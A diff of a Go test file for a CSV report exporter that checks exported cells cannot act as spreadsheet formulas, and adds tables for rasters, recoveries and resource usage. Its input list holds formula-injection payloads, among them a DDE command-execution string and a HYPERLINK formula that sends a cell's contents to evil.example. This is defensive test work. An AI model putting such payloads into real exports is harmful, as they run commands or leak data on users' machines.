@@ -62,6 +62,7 @@ func TestCSVCalculatesNothing(t *testing.T) {
 	for _, text := range []string{
 		`=1+1`, `+1`, `-1`, `@SUM(A1)`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?x="&A1,"x")`, "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u3000=1",
 		"＝1+1", "－1", "＋1", "＠x", "\u202e=1", "\ufeff=1", "\x00=1", "\x1b[31m=1", "a,\"=1\"", "\",=1,\"", ";=1", "x\n=1", "\xff=1",
+		"a;=1", "a;b; =1;-1", "a;\u3000＝1", `a;=cmd|' /C calc'!A0`, "a;\x00=1", ";;@x",
 	} {
 		out := write(t, everyCell{Text: text})
 		if !utf8.ValidString(out) {
@@ -78,8 +79,13 @@ func TestCSVCalculatesNothing(t *testing.T) {
 		if bare := strings.TrimLeft(cell, " \u00a0\u3000"); bare != "" && strings.ContainsRune(formula, []rune(bare)[0]) {
 			t.Errorf("%q: the cell %q is a formula", text, cell)
 		}
+		for _, part := range strings.Split(out, ";") { // as where the semicolon separates cells
+			if bare := strings.TrimLeft(part, " \u00a0\u3000"); bare != "" && strings.ContainsRune(formula, []rune(bare)[0]) {
+				t.Errorf("%q: split at semicolons %q is a formula", text, part)
+			}
+		}
 	}
-	for _, text := range []string{"", "plain", "1 = 1", "a-b", "'=1", "→ 5 ms"} {
+	for _, text := range []string{"", "plain", "1 = 1", "a-b", "'=1", "→ 5 ms", "a; b", "a;", "1;2"} {
 		if got := inert(text); got != text {
 			t.Errorf("%q became %q", text, got)
 		}
@@ -109,7 +115,12 @@ func sample() *reports.Run {
 		Results: []reports.Result{void, good}, Devices: []reports.Device{{ID: "d", Mode: reports.ModeSim}},
 		Latencies: []reports.Distribution{{Scenario: "steady", Name: "n", N: 9, Buckets: []reports.Bucket{{Low: 1, High: 2, Count: 9}}, Percentiles: []reports.Percentile{{Q: 0.5, Value: 1.5}}}},
 		Timelines: []reports.Timeline{{Scenario: "steady", Name: "n", Slot: time.Second, Points: []reports.Point{{Count: 9, P50: 1}}, Faults: []reports.FaultWindow{{Name: "kill", Onset: 1, End: 2}}}},
-		Hops:      []reports.Hop{{Name: "h", P50: 1}}, Integrity: []reports.Integrity{{Device: "d", Scenario: "steady", Sent: 9, Phantom: 1}}}
+		Hops:      []reports.Hop{{Name: "h", P50: 1}}, Integrity: []reports.Integrity{{Device: "d", Scenario: "steady", Sent: 9, Phantom: 1}},
+		Rasters: []reports.Raster{{Scenario: "steady", Slot: time.Second, Rows: []reports.RasterRow{{Device: "d", Cells: reports.Fates}}}},
+		Recoveries: []reports.Recovery{{Scenario: "churn", Returns: []reports.Return{{Viewer: "v", Fault: "cut", Lost: 5, Back: 1, Subscribed: reports.Float(math.NaN()),
+			Fresh: reports.Float(math.NaN()), Reason: "closed"}}}},
+		Resources: []reports.Resources{{Name: "steady-1", Scenario: "steady", Samples: []reports.Usage{{At: 7, CPU: 8, RSS: 9, Files: -1, Threads: 3}},
+			Faults: []reports.FaultWindow{{Name: "kill", Onset: 1, End: 2}}}}}
 }
 
 // TestEveryFieldHasAColumn: what the summary says of these parts is in a table.
@@ -119,7 +130,8 @@ func TestEveryFieldHasAColumn(t *testing.T) {
 		"requirements": write(t, Requirements(run)...), "results": write(t, Results(run)...), "measurements": write(t, Measurements(run)...),
 		"findings": write(t, Findings(run)...), "latencies": write(t, Latencies(run)...), "buckets": write(t, Buckets(run)...),
 		"timelines": write(t, Points(run)...), "faults": write(t, Faults(run)...), "hops": write(t, Hops(run)...),
-		"integrity": write(t, IntegrityOf(run)...), "devices": write(t, Devices(run)...),
+		"integrity": write(t, IntegrityOf(run)...), "devices": write(t, Devices(run)...), "rasters": write(t, Cells(run)...),
+		"returns": write(t, Returns(run)...), "resources": write(t, Usages(run)...), "resource_faults": write(t, UsageFaults(run)...),
 	} {
 		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 		if err != nil || len(rows) < 2 || rows[0][0] != "run" || rows[1][0] != "r1" {
@@ -133,6 +145,9 @@ func TestEveryFieldHasAColumn(t *testing.T) {
 		reflect.TypeFor[Integrity]():   {reflect.TypeFor[reports.Integrity](), 0},
 		reflect.TypeFor[Device]():      {reflect.TypeFor[reports.Device](), 0},
 		reflect.TypeFor[Hop]():         {reflect.TypeFor[reports.Hop](), 0},
+		reflect.TypeFor[Return]():      {reflect.TypeFor[reports.Return](), -1}, // the recovery's scenario
+		reflect.TypeFor[Usage]():       {reflect.TypeFor[reports.Usage](), -2},  // bench and scenario
+		reflect.TypeFor[UsageFault]():  {reflect.TypeFor[reports.FaultWindow](), -2},
 		reflect.TypeFor[Measurement](): {reflect.TypeFor[reports.Measurement](), 1 - 3}, // runs; the result's requirement, scenario, attempt
 	} {
 		if got, want := table.NumField(), fields.of.NumField()+1-fields.less; got != want {
@@ -141,6 +156,24 @@ func TestEveryFieldHasAColumn(t *testing.T) {
 	}
 	if got := fmt.Sprint(Results(run)[0].Superseded, Results(run)[1].Superseded); got != "true false" {
 		t.Errorf("superseded: %s", got)
+	}
+	cells := Cells(run)
+	if len(cells) != len(reports.Fates)-1 { // the first letter says that nothing was due
+		t.Errorf("%d cells of %q", len(cells), reports.Fates)
+	}
+	for i, c := range cells {
+		if c.At != int64(i+1)*1e9 || c.Slot != 1e9 || c.Fate == "" {
+			t.Errorf("cell %d is %+v", i, c)
+		}
+	}
+	if last := cells[len(cells)-1]; last.Fate != "lost" || last.Device != "d" {
+		t.Errorf("the last cell is %+v", last)
+	}
+	if r := Returns(run)[0]; r.Lost != 5 || r.Back != 1 || !math.IsNaN(r.Fresh) || r.Viewer != "v" || r.Fault != "cut" || r.Reason != "closed" {
+		t.Errorf("return %+v", r)
+	}
+	if u := Usages(run)[0]; u != (Usage{"r1", "steady-1", "steady", 7, 8, 9, -1, 3}) {
+		t.Errorf("usage %+v", u)
 	}
 	if f := Findings(run)[0]; f.Context != "a | b" || f.At != 1e9 || f.Attempt != 2 {
 		t.Errorf("finding %+v", f)
